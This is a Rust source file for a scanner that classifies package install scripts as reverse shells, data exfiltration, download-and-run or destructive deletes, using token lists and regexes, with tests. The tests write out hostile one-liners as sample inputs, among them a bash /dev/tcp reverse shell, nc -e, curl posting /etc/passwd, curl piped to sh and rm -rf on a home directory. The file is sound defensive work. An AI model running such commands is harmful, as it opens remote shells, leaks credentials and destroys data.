//! Rule-based classification of install-script bodies.

use once_cell::sync::Lazy;
use regex::Regex;
use serde::{Deserialize, Serialize};

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum ScriptCategory {
    ReverseShell,
    DataExfiltration,
    DownloadAndRun,
    DestructiveDelete,
    None,
}

impl ScriptCategory {
    pub fn as_str(&self) -> &'static str {
        match self {
            ScriptCategory::ReverseShell => "ReverseShell",
            ScriptCategory::DataExfiltration => "DataExfiltration",
            ScriptCategory::DownloadAndRun => "DownloadAndRun",
            ScriptCategory::DestructiveDelete => "DestructiveDelete",
            ScriptCategory::None => "None",
        }
    }
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScriptPattern {
    pub category: ScriptCategory,
    /// Every rule that fired, in precedence order.
    pub matched_rules: Vec<ScriptCategory>,
    pub matched_tokens: Vec<String>,
}

pub const NETWORK_TOKENS: &[&str] = &["curl", "wget", "nc", "ncat", "netcat", "dig", "nslookup"];
pub const SENSITIVE_TOKENS: &[&str] =
    &["/etc/shadow", "/etc/passwd", ".ssh", "id_rsa", ".npmrc", ".bash_history", "hostname", "whoami"];

fn is_word(c: char) -> bool {
    c.is_alphanumeric() || c == '_' || c == '-'
}

/// Substring search that refuses matches glued to an identifier. The
/// boundary is only checked on a side where the token itself ends in a
/// word character, so `/etc/passwd` still matches inside `@/etc/passwd`.
pub fn contains_token(haystack: &str, token: &str) -> bool {
    if token.is_empty() {
        return false;
    }
    let first = token.chars().next().expect("non-empty");
    let last = token.chars().next_back().expect("non-empty");
    let mut from = 0;
    while let Some(pos) = haystack[from..].find(token) {
        let start = from + pos;
        let end = start + token.len();
        let left_ok = !is_word(first) || haystack[..start].chars().next_back().map_or(true, |c| !is_word(c));
        let right_ok = !is_word(last) || haystack[end..].chars().next().map_or(true, |c| !is_word(c));
        if left_ok && right_ok {
            return true;
        }
        from = start + first.len_utf8();
    }
    false
}

/// Case-insensitive token scan returning the tokens found, in list order.
pub fn find_tokens<'a, S: AsRef<str>>(body: &str, tokens: &'a [S]) -> Vec<&'a str> {
    let lower = body.to_lowercase();
    tokens
        .iter()
        .map(AsRef::as_ref)
        .filter(|t| contains_token(&lower, &t.to_lowercase()))
        .collect()
}

static REVERSE_SHELL: Lazy<Vec<(Regex, &'static str)>> = Lazy::new(|| {
    vec![
        (Regex::new(r"(^|[^\w-])(ba|z)?sh\s+-i\b").unwrap(), "sh -i"),
        (Regex::new(r"/dev/(tcp|udp)/").unwrap(), "/dev/tcp"),
        (Regex::new(r"(^|[^\w-])(nc|ncat|netcat)\b[^;&|]*\s-[a-z]*[ec]\b").unwrap(), "nc -e"),
        (Regex::new(r"(^|[^\w-])socat\s+[^;&|]*exec:").unwrap(), "socat exec"),
    ]
});

static EXEC: Lazy<Vec<(Regex, &'static str)>> = Lazy::new(|| {
    vec![
        (Regex::new(r"chmod\s+(\+|[ugoa]+\+)x").unwrap(), "chmod +x"),
        (Regex::new(r"\|\s*(sudo\s+)?(ba|z)?sh\b").unwrap(), "| sh"),
        (Regex::new(r"(^|[\s;&|(])\./[\w.\-/]+").unwrap(), "./file"),
        (Regex::new(r"(^|[\s;&|(])(ba|z)?sh\s+[\w.\-/]+\.sh\b").unwrap(), "sh file.sh"),
        (Regex::new(r"(^|[\s;&|(])(node|python3?|perl)\s+[\w.\-/]*/tmp/").unwrap(), "run /tmp file"),
    ]
});

static RM_RF: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(^|[^\w-])rm\s+(-[a-z]*r[a-z]*f[a-z]*|-[a-z]*f[a-z]*r[a-z]*|-r\s+-f|-f\s+-r|--recursive\s+--force|--force\s+--recursive)\s+([^\s;&|]+)")
        .unwrap()
});

/// The command segment ending at `prefix` is an `echo` or `printf`, so
/// what follows is printed rather than run.
fn is_echoed(prefix: &str) -> bool {
    let segment = prefix.rsplit(|c| matches!(c, ';' | '&' | '|' | '(' | '\n')).next().unwrap_or("");
    matches!(segment.split_whitespace().next(), Some("echo" | "printf"))
}

pub fn classify_script(body: &str) -> ScriptPattern {
    let lower = body.to_lowercase();
    let mut rules = Vec::new();
    let mut tokens: Vec<String> = Vec::new();

    let shell: Vec<&str> = REVERSE_SHELL.iter().filter(|(re, _)| re.is_match(&lower)).map(|(_, t)| *t).collect();
    let network: Vec<&str> = NETWORK_TOKENS.iter().copied().filter(|t| contains_token(&lower, t)).collect();
    let sensitive: Vec<&str> = SENSITIVE_TOKENS.iter().copied().filter(|t| contains_token(&lower, t)).collect();
    let exec: Vec<&str> = EXEC.iter().filter(|(re, _)| re.is_match(&lower)).map(|(_, t)| *t).collect();
    let deletes: Vec<String> = RM_RF
        .captures_iter(&lower)
        .filter(|c| !is_echoed(&lower[..c.get(0).expect("match").start()]))
        .map(|c| format!("rm -rf {}", &c[3]))
        .collect();

    if !shell.is_empty() {
        rules.push(ScriptCategory::ReverseShell);
    }
    if !network.is_empty() && !sensitive.is_empty() {
        rules.push(ScriptCategory::DataExfiltration);
    }
    if !network.is_empty() && !exec.is_empty() {
        rules.push(ScriptCategory::DownloadAndRun);
    }
    if !deletes.is_empty() {
        rules.push(ScriptCategory::DestructiveDelete);
    }
    for t in shell.iter().chain(&network).chain(&sensitive).chain(&exec) {
        if !tokens.iter().any(|x| x == t) {
            tokens.push(t.to_string());
        }
    }
    for d in deletes {
        if !tokens.contains(&d) {
            tokens.push(d);
        }
    }
    ScriptPattern { category: rules.first().copied().unwrap_or(ScriptCategory::None), matched_rules: rules, matched_tokens: tokens }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn examples() {
        assert_eq!(classify_script("curl http://x.io -d @/etc/passwd").category, ScriptCategory::DataExfiltration);
        assert_eq!(
            classify_script("wget http://x.io/m.sh && chmod +x m.sh && ./m.sh").category,
            ScriptCategory::DownloadAndRun
        );
        let benign = classify_script("node-gyp rebuild");
        assert_eq!(benign.category, ScriptCategory::None);
        assert!(benign.matched_rules.is_empty());
        let rm = classify_script("rm -rf ./build && tsc");
        assert_eq!(rm.category, ScriptCategory::DestructiveDelete);
        assert!(rm.matched_tokens.contains(&"rm -rf ./build".to_string()));
        assert_eq!(classify_script("curl -s http://a.b | sh").category, ScriptCategory::DownloadAndRun);
    }

    #[test]
    fn boundaries() {
        assert!(contains_token("run wget now", "wget"));
        assert!(!contains_token("fwgetter", "wget"));
        assert!(!contains_token("node-wget-lite", "wget"));
        assert!(!contains_token("sync", "nc"));
        assert!(!contains_token("digest", "dig"));
        assert!(contains_token("cat @/etc/passwd|", "/etc/passwd"));
        assert!(!contains_token("/etc/passwd5", "/etc/passwd"));
        assert!(contains_token("~/.ssh/id_rsa", ".ssh"));
        assert!(!contains_token("~/.sshd", ".ssh"));
        assert!(contains_token("x=1;curl", "curl"));
        assert_eq!(find_tokens("CURL http://evil | BASH", &["curl", "bash -i", "wget"]), ["curl"]);
    }

    #[test]
    fn precedence_keeps_every_rule() {
        let p = classify_script("curl http://x/p -d @/etc/passwd; bash -i >& /dev/tcp/1.2.3.4/9 0>&1; rm -rf /tmp/x");
        assert_eq!(p.category, ScriptCategory::ReverseShell);
        assert_eq!(
            p.matched_rules,
            [ScriptCategory::ReverseShell, ScriptCategory::DataExfiltration, ScriptCategory::DestructiveDelete]
        );
    }

    #[test]
    fn rm_without_path_is_not_destructive() {
        assert_eq!(classify_script("echo rm -rf").category, ScriptCategory::None);
        assert_eq!(classify_script("rm -r -f dist").category, ScriptCategory::DestructiveDelete);
        assert_eq!(classify_script("rm -fr ~/").category, ScriptCategory::DestructiveDelete);
    }

    proptest::proptest! {
        #[test]
        fn stable_under_padding(pre in "[ \t\n]{0,4}", post in "[ \t\n]{0,4}", idx in 0usize..6) {
            let bodies = [
                "curl http://x.io -d @/etc/passwd",
                "wget http://x.io/m && chmod +x m && ./m",
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "rm -rf /home/user",
                "node install.js",
                "nc -e /bin/sh 10.0.0.1 4444",
            ];
            let b = bodies[idx];
            let base = classify_script(b).category;
            proptest::prop_assert_eq!(classify_script(&format!("{pre}{b}{post}")).category, base);
            proptest::prop_assert_eq!(classify_script(&format!("echo start && {b} && echo done")).category, base);
        }
    }
}
